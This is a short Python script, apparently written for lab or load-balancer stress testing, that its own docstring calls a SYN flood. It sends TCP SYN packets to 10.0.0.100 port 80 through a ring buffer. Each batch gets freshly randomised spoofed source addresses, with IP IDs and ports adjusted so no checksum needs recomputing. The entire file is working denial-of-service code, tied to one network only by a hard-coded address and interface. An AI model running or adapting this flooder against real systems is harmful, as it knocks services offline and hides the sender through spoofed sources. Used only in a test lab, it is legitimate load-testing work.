#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A SYN flood with sources from everywhere: flood.py COUNT, rounded up to a whole ring.

They are sent a ring at a time, so nearly all of the work is the network's. Before each, the low half
of every source address gets new random bits; IP's identification and the source port get their
complement, so no checksum changes.
"""

import os
import random
import struct
import sys

from ring import Ring
import layers  # noqa: F401
from scapy.all import IP, TCP, Ether, conf, getmacbyip

FRAMES = 1024
# Of the Ethernet frame.
ID, IP_SUM, SOURCE, PORT, TCP_SUM = 18, 24, 26, 34, 50

count = int(sys.argv[1])
conf.verb = 0
conf.iface = "eth0"
VIP = "10.0.0.100"
mac = getmacbyip(VIP)
packet = Ether(dst=mac) / IP(src="0.0.0.0", dst=VIP, id=0xFFFF) / TCP(sport=0xFFFF, dport=80)
packet = bytearray(bytes(packet))
sums = [struct.unpack_from("!H", packet, at)[0] for at in (IP_SUM, TCP_SUM)]

ring = Ring(FRAMES, 128)
rng = random.Random(1)
for n in range(FRAMES):
    # Half an address that can be a client's: not this network, loopback or multicast.
    half = rng.choice([*range(11, 127), *range(128, 224)]) << 8 | rng.randrange(256)
    struct.pack_into("!H", packet, SOURCE, half)
    for at, total in zip((IP_SUM, TCP_SUM), sums):
        struct.pack_into("!H", packet, at, (total - half) % 0xFFFF)
    ring.put(n, packet)

complement = bytes(255 - byte for byte in range(256))
for _ in range(-(-count // FRAMES)):
    for byte in (0, 1):
        low = os.urandom(FRAMES)
        ring.column(SOURCE + 2 + byte)[:] = low
        for at in (ID, PORT):
            ring.column(at + byte)[:] = low.translate(complement)
    ring.send()
